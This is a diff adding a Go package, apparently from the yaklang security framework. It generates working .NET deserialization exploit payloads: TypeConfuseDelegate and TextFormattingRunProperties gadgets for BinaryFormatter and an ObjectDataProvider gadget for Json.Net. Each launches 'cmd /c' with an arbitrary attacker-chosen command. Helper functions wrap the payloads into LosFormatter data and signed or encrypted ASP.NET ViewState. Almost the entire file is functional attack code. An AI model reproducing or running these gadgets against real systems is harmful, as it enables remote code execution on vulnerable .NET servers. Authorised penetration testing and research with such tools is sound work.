@@ -0,0 +1,318 @@
+package ysonet
+
+import (
+	"encoding/json"
+	"fmt"
+	"html"
+	"sort"
+
+	"github.com/yaklang/yaklang/common/netserx"
+	"github.com/yaklang/yaklang/common/utils"
+)
+
+const (
+	FormatBinaryFormatter = "BinaryFormatter"
+	FormatJsonNet         = "Json.Net"
+)
+
+const (
+	TypeConfuseDelegateGadgetName         = "TypeConfuseDelegate"
+	TextFormattingRunPropertiesGadgetName = "TextFormattingRunProperties"
+	ObjectDataProviderGadgetName          = "ObjectDataProvider"
+)
+
+const (
+	mscorlibAssembly = "mscorlib, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089"
+	systemAssembly   = "System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089"
+)
+
+// GadgetInfo is the information of .NET gadget, the generator is func(cmd string) (*Payload, error)
+type GadgetInfo struct {
+	Name      string
+	Format    string
+	Help      string
+	YakFun    string
+	Generator func(cmd string) (*Payload, error)
+}
+
+func (g *GadgetInfo) GetName() string {
+	return g.Name
+}
+
+func (g *GadgetInfo) GetHelp() string {
+	return g.Help
+}
+
+var AllGadgets = map[string]*GadgetInfo{}
+
+func init() {
+	registerGadget(GetTypeConfuseDelegatePayload, TypeConfuseDelegateGadgetName, FormatBinaryFormatter, "SortedSet with ComparisonComparer whose delegate is confused to Process.Start")
+	registerGadget(GetTextFormattingRunPropertiesPayload, TextFormattingRunPropertiesGadgetName, FormatBinaryFormatter, "ForegroundBrush is loaded by XamlReader, requires Microsoft.PowerShell.Editor")
+	registerGadget(GetObjectDataProviderPayload, ObjectDataProviderGadgetName, FormatJsonNet, "Json.Net with TypeNameHandling, ObjectDataProvider calls Process.Start")
+}
+
+func registerGadget(generator func(cmd string) (*Payload, error), name string, format string, help string) {
+	AllGadgets[name] = &GadgetInfo{
+		Name:      name,
+		Format:    format,
+		Help:      help,
+		YakFun:    fmt.Sprintf("Get%sPayload", name),
+		Generator: generator,
+	}
+}
+
+// Payload is the .NET gadget, Records is the BinaryFormatter stream and Raw is the text of Json.Net payload
+type Payload struct {
+	Format  string
+	Records []netserx.NRBFRecord
+	Raw     []byte
+	verbose *GadgetInfo
+}
+
+func (p *Payload) Verbose() *GadgetInfo {
+	return p.verbose
+}
+
+// Bytes return the BinaryFormatter stream or the json text
+func (p *Payload) Bytes() []byte {
+	if p.Format == FormatBinaryFormatter {
+		return netserx.MarshalBinaryFormatter(p.Records...)
+	}
+	return p.Raw
+}
+
+func newBinaryFormatterPayload(name string, records ...netserx.NRBFRecord) *Payload {
+	return &Payload{Format: FormatBinaryFormatter, Records: records, verbose: AllGadgets[name]}
+}
+
+// GetAllGadgets return all gadgets sorted by name
+func GetAllGadgets() []*GadgetInfo {
+	var gadgets []*GadgetInfo
+	for _, gadget := range AllGadgets {
+		gadgets = append(gadgets, gadget)
+	}
+	sort.Slice(gadgets, func(i, j int) bool {
+		return gadgets[i].Name < gadgets[j].Name
+	})
+	return gadgets
+}
+
+// GetAllFormatGadgets return the gadgets of format, such as BinaryFormatter and Json.Net
+func GetAllFormatGadgets(format string) []*GadgetInfo {
+	var gadgets []*GadgetInfo
+	for _, gadget := range GetAllGadgets() {
+		if gadget.Format == format {
+			gadgets = append(gadgets, gadget)
+		}
+	}
+	return gadgets
+}
+
+// Generate generate the payload by gadget name
+// Example:
+// ```
+// payload = ysonet.Generate("TypeConfuseDelegate", "calc")~
+// raw = ysonet.ToBytes(payload)~
+// ```
+func Generate(name string, cmd string) (*Payload, error) {
+	gadget, ok := AllGadgets[name]
+	if !ok {
+		return nil, utils.Errorf(".NET gadget %s not found", name)
+	}
+	return gadget.Generator(cmd)
+}
+
+// GetTypeConfuseDelegatePayload generate TypeConfuseDelegate gadget for BinaryFormatter, the comparison of SortedSet
+// is a multicast delegate of String.Compare and Process.Start, so adding the items calls Process.Start("cmd", "/c "+cmd)
+// Example:
+// ```
+// payload = ysonet.GetTypeConfuseDelegatePayload("calc")~
+// raw = ysonet.ToBytes(payload)~
+// ```
+func GetTypeConfuseDelegatePayload(cmd string) (*Payload, error) {
+	if cmd == "" {
+		return nil, utils.Error("command is empty")
+	}
+	stringType := fmt.Sprintf("[[System.String, %s]]", mscorlibAssembly)
+	comparerType := "System.Collections.Generic.ComparisonComparer`1" + stringType
+
+	sortedSet := netserx.NewNRBFClass(1, "System.Collections.Generic.SortedSet`1"+stringType, 2).
+		AddMember("Count", netserx.NewNRBFPrimitiveMemberType(netserx.PrimitiveInt32), netserx.NewNRBFInt32(2)).
+		AddMember("Comparer", netserx.NewNRBFSystemClassMemberType(comparerType), netserx.NewNRBFReference(3)).
+		AddMember("Version", netserx.NewNRBFPrimitiveMemberType(netserx.PrimitiveInt32), netserx.NewNRBFInt32(2)).
+		AddMember("Items", netserx.NewNRBFStringArrayMemberType(), netserx.NewNRBFReference(4))
+	comparer := netserx.NewNRBFClass(3, comparerType, 0).
+		AddMember("_comparison", netserx.NewNRBFSystemClassMemberType("System.DelegateSerializationHolder"), netserx.NewNRBFReference(5))
+	// the items are sorted, so the arguments are ("cmd", "/c "+cmd) when the second one is added
+	items := netserx.NewNRBFStringArray(4, netserx.NewNRBFString(6, "/c "+cmd), netserx.NewNRBFString(7, "cmd"))
+
+	delegateEntryType := "System.DelegateSerializationHolder+DelegateEntry"
+	memberInfoType := "System.Reflection.MemberInfoSerializationHolder"
+	holder := netserx.NewNRBFClass(5, "System.DelegateSerializationHolder", 0).
+		AddMember("Delegate", netserx.NewNRBFSystemClassMemberType(delegateEntryType), netserx.NewNRBFReference(8)).
+		AddMember("method0", netserx.NewNRBFSystemClassMemberType(memberInfoType), netserx.NewNRBFReference(9)).
+		AddMember("method1", netserx.NewNRBFSystemClassMemberType(memberInfoType), netserx.NewNRBFReference(10))
+	stringMember := netserx.NewNRBFStringMemberType()
+	delegateEntry := netserx.NewNRBFClass(8, delegateEntryType, 0).
+		AddMember("type", stringMember, netserx.NewNRBFString(11, "System.Comparison`1"+stringType)).
+		AddMember("assembly", stringMember, netserx.NewNRBFString(12, mscorlibAssembly)).
+		AddMember("target", netserx.NewNRBFObjectMemberType(), netserx.NewNRBFNull()).
+		AddMember("targetTypeAssembly", stringMember, netserx.NewNRBFString(13, systemAssembly)).
+		AddMember("targetTypeName", stringMember, netserx.NewNRBFString(14, "System.Diagnostics.Process")).
+		AddMember("methodName", stringMember, netserx.NewNRBFString(15, "Start")).
+		AddMember("delegateEntry", netserx.NewNRBFSystemClassMemberType(delegateEntryType), netserx.NewNRBFReference(16))
+	startSignature := "System.Diagnostics.Process Start(System.String, System.String)"
+	startMethod := netserx.NewNRBFClass(9, memberInfoType, 0).
+		AddMember("Name", stringMember, netserx.NewNRBFReference(15)).
+		AddMember("AssemblyName", stringMember, netserx.NewNRBFReference(13)).
+		AddMember("ClassName", stringMember, netserx.NewNRBFReference(14)).
+		AddMember("Signature", stringMember, netserx.NewNRBFString(17, startSignature)).
+		AddMember("Signature2", stringMember, netserx.NewNRBFString(18, startSignature)).
+		AddMember("MemberType", netserx.NewNRBFPrimitiveMemberType(netserx.PrimitiveInt32), netserx.NewNRBFInt32(8)).
+		AddMember("GenericArguments", netserx.NewNRBFSystemClassMemberType("System.Type[]"), netserx.NewNRBFNull())
+	compareMethod := netserx.NewNRBFClassWithId(10, startMethod,
+		netserx.NewNRBFString(19, "Compare"),
+		netserx.NewNRBFReference(12),
+		netserx.NewNRBFString(20, "System.String"),
+		netserx.NewNRBFString(21, "Int32 Compare(System.String, System.String)"),
+		netserx.NewNRBFString(22, "System.Int32 Compare(System.String, System.String)"),
+		netserx.NewNRBFInt32(8),
+		netserx.NewNRBFNull(),
+	)
+	compareEntry := netserx.NewNRBFClassWithId(16, delegateEntry,
+		netserx.NewNRBFReference(11),
+		netserx.NewNRBFReference(12),
+		netserx.NewNRBFNull(),
+		netserx.NewNRBFReference(12),
+		netserx.NewNRBFReference(20),
+		netserx.NewNRBFReference(19),
+		netserx.NewNRBFNull(),
+	)
+	return newBinaryFormatterPayload(TypeConfuseDelegateGadgetName,
+		netserx.NewNRBFHeader(1),
+		netserx.NewNRBFLibrary(2, systemAssembly),
+		sortedSet, comparer, items, holder, delegateEntry, startMethod, compareMethod, compareEntry,
+		netserx.NewNRBFMessageEnd(),
+	), nil
+}
+
+// processXaml is the xaml of ObjectDataProvider which calls Process.Start("cmd", "/c "+cmd)
+func processXaml(cmd string) string {
+	return `<?xml version="1.0" encoding="utf-16"?>
+<ObjectDataProvider MethodName="Start" IsInitialLoadEnabled="False" xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:sd="clr-namespace:System.Diagnostics;assembly=System" xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml">
+  <ObjectDataProvider.ObjectInstance>
+    <sd:Process>
+      <sd:Process.StartInfo>
+        <sd:ProcessStartInfo Arguments="/c ` + html.EscapeString(cmd) + `" StandardErrorEncoding="{x:Null}" StandardOutputEncoding="{x:Null}" UserName="" Password="{x:Null}" Domain="" LoadUserProfile="False" FileName="cmd" />
+      </sd:Process.StartInfo>
+    </sd:Process>
+  </ObjectDataProvider.ObjectInstance>
+</ObjectDataProvider>`
+}
+
+// GetTextFormattingRunPropertiesPayload generate TextFormattingRunProperties gadget for BinaryFormatter,
+// the ForegroundBrush is the xaml of ObjectDataProvider which is loaded by XamlReader.Parse
+// Example:
+// ```
+// payload = ysonet.GetTextFormattingRunPropertiesPayload("calc")~
+// raw = ysonet.ToBytes(payload)~
+// ```
+func GetTextFormattingRunPropertiesPayload(cmd string) (*Payload, error) {
+	if cmd == "" {
+		return nil, utils.Error("command is empty")
+	}
+	properties := netserx.NewNRBFClass(1, "Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties", 2).
+		AddMember("ForegroundBrush", netserx.NewNRBFStringMemberType(), netserx.NewNRBFString(3, processXaml(cmd)))
+	return newBinaryFormatterPayload(TextFormattingRunPropertiesGadgetName,
+		netserx.NewNRBFHeader(1),
+		netserx.NewNRBFLibrary(2, "Microsoft.PowerShell.Editor, Version=3.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35"),
+		properties,
+		netserx.NewNRBFMessageEnd(),
+	), nil
+}
+
+// GetObjectDataProviderPayload generate ObjectDataProvider gadget for Json.Net with TypeNameHandling,
+// ObjectDataProvider calls Process.Start("cmd", "/c "+cmd) when MethodName is set
+// Example:
+// ```
+// payload = ysonet.GetObjectDataProviderPayload("calc")~
+// raw = ysonet.ToBytes(payload)~
+// ```
+func GetObjectDataProviderPayload(cmd string) (*Payload, error) {
+	if cmd == "" {
+		return nil, utils.Error("command is empty")
+	}
+	quote := func(s string) string {
+		raw, _ := json.Marshal(s)
+		return string(raw)
+	}
+	// json.Net reads $type first, so the keys are written in order rather than by map
+	raw := fmt.Sprintf(`{"$type":%s,"MethodName":"Start","MethodParameters":{"$type":%s,"$values":["cmd",%s]},"ObjectInstance":{"$type":%s}}`,
+		quote("System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35"),
+		quote("System.Collections.ArrayList, "+mscorlibAssembly),
+		quote("/c "+cmd),
+		quote("System.Diagnostics.Process, "+systemAssembly),
+	)
+	return &Payload{Format: FormatJsonNet, Raw: []byte(raw), verbose: AllGadgets[ObjectDataProviderGadgetName]}, nil
+}
+
+// ToBytes return the BinaryFormatter stream or the json text of payload
+// Example:
+// ```
+// payload = ysonet.GetTypeConfuseDelegatePayload("calc")~
+// raw = ysonet.ToBytes(payload)~
+// ```
+func ToBytes(payload *Payload) ([]byte, error) {
+	if payload == nil {
+		return nil, utils.Error(".NET payload is empty")
+	}
+	return payload.Bytes(), nil
+}
+
+// ToObjectStateFormatter wrap the BinaryFormatter payload in ObjectStateFormatter, which is the data of ViewState
+func ToObjectStateFormatter(payload *Payload) ([]byte, error) {
+	if payload == nil || payload.Format != FormatBinaryFormatter {
+		return nil, utils.Error("only BinaryFormatter payload can be wrapped in ObjectStateFormatter")
+	}
+	return netserx.MarshalObjectStateFormatter(netserx.NewObjectStateBinary(payload.Bytes())), nil
+}
+
+// ToLosFormatter wrap the BinaryFormatter payload in LosFormatter, the result is base64 encoded
+// Example:
+// ```
+// payload = ysonet.GetTextFormattingRunPropertiesPayload("calc")~
+// data = ysonet.ToLosFormatter(payload)~
+// ```
+func ToLosFormatter(payload *Payload) (string, error) {
+	if payload == nil || payload.Format != FormatBinaryFormatter {
+		return "", utils.Error("only BinaryFormatter payload can be wrapped in LosFormatter")
+	}
+	return netserx.MarshalLosFormatter(netserx.NewObjectStateBinary(payload.Bytes())), nil
+}
+
+// ToViewState wrap the BinaryFormatter payload in ViewState, it is encrypted like .NET >= 4.5 if the decryption key is set,
+// otherwise it is signed with the legacy MAC, the options are the viewstate options of dotnet
+// Example:
+// ```
+// payload = ysonet.GetTypeConfuseDelegatePayload("calc")~
+// viewstate = ysonet.ToViewState(payload, dotnet.validationKey("..."), dotnet.validationAlg("SHA1"), dotnet.generator("CA0B0334"))~
+// viewstate = ysonet.ToViewState(payload, dotnet.validationKey("..."), dotnet.decryptionKey("..."), dotnet.page("/", "default_aspx"))~
+// ```
+func ToViewState(payload *Payload, opts ...netserx.ViewStateOption) (string, error) {
+	data, err := ToObjectStateFormatter(payload)
+	if err != nil {
+		return "", err
+	}
+	if len(netserx.NewViewStateConfig(opts...).DecryptionKey) > 0 {
+		return netserx.EncryptViewState(data, opts...)
+	}
+	return netserx.SignViewState(data, opts...)
+}
+
+// Dump format the BinaryFormatter payload as readable text, the json text is returned for Json.Net payload
+func Dump(payload *Payload) string {
+	if payload.Format == FormatBinaryFormatter {
+		return netserx.Dump(payload.Records...)
+	}
+	return string(payload.Raw)
+}